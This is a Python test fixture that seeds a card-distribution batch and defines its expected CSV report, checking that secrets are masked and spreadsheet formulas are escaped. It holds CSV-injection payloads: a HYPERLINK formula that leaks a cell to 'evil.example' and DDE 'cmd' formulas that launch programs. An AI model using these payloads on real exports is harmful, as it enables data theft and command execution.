"""A batch with rows in every kind of state, and the secrets its report must never show."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from typing import Any

from sqlalchemy.orm import Session

from distributor.config import Settings
from distributor.constants import RowState
from distributor.db import session_scope
from distributor.models import Batch
from distributor.vault import vault_from_settings
from tests.factories import make_batch, make_row

LOADED_AT = datetime(2026, 11, 21, 12, 0, 5, tzinfo=UTC)
SENT_AT = datetime(2026, 11, 21, 12, 0, 7, tzinfo=UTC)

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
AT_FORMULA = "@SUM(1+1)*cmd|' /C calc'!A0"
PLUS_FORMULA = "+cmd|' /C notepad'!A0"
MINUS_FORMULA = "-2+3+cmd|' /C calc'!A0"
AWKWARD_DETAIL = 'cardNumber: digits only, not "12a-x"\nsee the upload guide'

PHONES = ("+64211110001", "+64211110002", "+64211110004", "+64211110005", "+64211110006")
EMAIL = "alice.smith@example.com"
CARDS = tuple(f"6001000000000{n}" for n in range(1, 8))
PINS = ("918273", "564738", "829104", "310927", "746150", "283746", "650193")
SECRETS = (*PHONES, *(phone[1:] for phone in PHONES), EMAIL, "alice.smith", *CARDS, *PINS)
"""Clear values stored for the seeded batch: none may appear in a report."""


DELIVERY = {
    "pending": "",
    "sent": "transferred",
    "failed": "not transferred",
    "invalid": "not transferred",
}


def _line(line: str, recipient: str, card: str, state: str, **cells: str) -> dict[str, str]:
    blank = dict.fromkeys(
        ("asset_id", "transfer_id", "transfer_status", "error_code", "error_detail"), ""
    )
    times = {"loaded_at": "", "sent_at": "", "earlier_transfers": ""}
    return {
        "line": line,
        "recipient": recipient,
        "card": card,
        "state": state,
        "delivery": DELIVERY[state],
        **blank,
        "attempts": "0",
        **times,
        **cells,
    }


EXPECTED = [
    _line("1", "'+64*****0001", "*******00001", "pending"),
    _line(
        "2",
        "'+64*****0002",
        "*******00002",
        "sent",
        asset_id="asset-a1",
        transfer_id="transfer-t1",
        transfer_status="sent",
        attempts="3",
        loaded_at="2026-11-21T12:00:05Z",
        sent_at="2026-11-21T12:00:07Z",
    ),
    _line(
        "3",
        "a***@example.com",
        "*******00003",
        "failed",
        error_code="UNKNOWN_ASSET",
        error_detail="'" + HYPERLINK,
        attempts="1",
    ),
    _line(
        "4",
        "'+64*****0004",
        "",
        "invalid",
        error_code="INVALID_CARD_NUMBER",
        error_detail=AWKWARD_DETAIL,
    ),
    _line(
        "5",
        "'+64*****0005",
        "*******00005",
        "failed",
        delivery="unknown: an answer was lost",
        error_code="SERVER_ERROR",
        error_detail="'" + AT_FORMULA,
        attempts="5",
    ),
    _line(
        "6",
        "'+64*****0006",
        "*******00006",
        "failed",
        error_code="QUOTA_EXCEEDED",
        error_detail="'" + PLUS_FORMULA,
        attempts="1",
    ),
    _line(
        "7",
        "'+64*****0001",
        "*******00007",
        "failed",
        error_code="BAD_REQUEST",
        error_detail="'" + MINUS_FORMULA,
        attempts="1",
    ),
]
"""The seeded batch's report by column, but for created_at and updated_at (set by Postgres)."""


def _add(session: Session, settings: Settings, batch: Batch, line: int, **values: Any) -> None:
    row = make_row(
        session,
        batch=batch,
        vault=vault_from_settings(settings),
        card_number=CARDS[line - 1],
        pin=PINS[line - 1],
        recipient=values.pop("recipient", PHONES[0]),
        line_no=line,
    )
    for name, value in values.items():
        setattr(row, name, value)


def seed_batch(settings: Settings) -> int:
    """The batch whose report is ``EXPECTED``, its rows stored out of line order."""
    failed = {"state": RowState.FAILED, "load_attempts": 1}
    with session_scope(settings.database_url) as session:
        batch = make_batch(session)
        _add(
            session,
            settings,
            batch,
            4,
            recipient=PHONES[2],
            state=RowState.INVALID,
            card_masked=None,
            error_code="INVALID_CARD_NUMBER",
            error_detail=AWKWARD_DETAIL,
        )
        _add(session, settings, batch, 1, recipient=PHONES[0], message='Hi Bob, your "card"')
        _add(
            session,
            settings,
            batch,
            3,
            recipient=EMAIL,
            recipient_masked="a***@example.com",
            error_code="UNKNOWN_ASSET",
            error_detail=HYPERLINK,
            **failed,
        )
        _add(
            session,
            settings,
            batch,
            2,
            recipient=PHONES[1],
            state=RowState.SENT,
            pin_enc=None,
            asset_id="asset-a1",
            transfer_id="transfer-t1",
            transfer_status="sent",
            load_attempts=1,
            transfer_attempts=2,
            loaded_at=LOADED_AT,
            sent_at=SENT_AT,
        )
        _add(
            session,
            settings,
            batch,
            5,
            recipient=PHONES[3],
            message="=cmd|' /C calc'!A0",
            error_code="SERVER_ERROR",
            error_detail=AT_FORMULA,
            ambiguous=True,
            **{**failed, "load_attempts": 5},
        )
        _add(
            session,
            settings,
            batch,
            6,
            recipient=PHONES[4],
            error_code="QUOTA_EXCEEDED",
            error_detail=PLUS_FORMULA,
            **failed,
        )
        _add(
            session,
            settings,
            batch,
            7,
            error_code="BAD_REQUEST",
            error_detail=MINUS_FORMULA,
            **failed,
        )
        return batch.id


def parse(report: str) -> list[dict[str, str]]:
    """The report's lines (after the header) by column."""
    return list(csv.DictReader(io.StringIO(report, newline="")))


def without_database_times(lines: list[dict[str, str]]) -> list[dict[str, str]]:
    """``lines`` without created_at and updated_at, to compare with ``EXPECTED``."""
    return [
        {name: cell for name, cell in line.items() if name not in ("created_at", "updated_at")}
        for line in lines
    ]
